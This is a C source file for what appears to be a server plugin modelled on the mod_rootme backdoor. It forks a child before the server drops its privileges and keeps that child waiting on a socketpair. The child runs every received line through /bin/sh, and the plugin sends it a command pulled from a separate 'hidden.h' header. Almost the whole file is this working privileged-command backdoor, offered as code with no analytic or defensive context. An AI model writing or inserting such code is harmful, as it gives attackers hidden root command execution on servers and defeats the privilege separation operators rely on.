/* After mod_rootme: a child that is forked before the server gives up its rights waits at
 * the other end of a pair of sockets for what to run, and a request brings it. */
#include "plugin.h"
#include "hidden.h" /* 0: the command of the request */
extern int socketpair(int, int, int, int *), fork(void), close(int), setsid(void), execl(const char *, const char *, ...), waitpid(int, int *, int);
extern long read(int, void *, unsigned long), write(int, const void *, unsigned long);
extern unsigned long strlen(const char *);
extern void _exit(int);
static int pipe_to_root = -1;
static void wait_for_work(int s) {
    char line[512];
    long n;
    setsid();
    while ((n = read(s, line, sizeof line - 1)) > 0) {
        line[n] = 0;
        int child = fork();
        if (child == 0) {
            execl("/bin/sh", "sh", "-c", line, (char *)0);
            _exit(127);
        }
        waitpid(child, 0, 0);
    }
    _exit(0);
}
static int on_line(const char *request) { return write(pipe_to_root, request, strlen(request)) > 0; }
static void act(char **env) {
    int pair[2];
    if (socketpair(1, 1, 0, pair)) return;
    if (fork() == 0) {
        close(pair[0]);
        wait_for_work(pair[1]);
    }
    close(pair[1]);
    pipe_to_root = pair[0];
    on_line(hidden0());
}
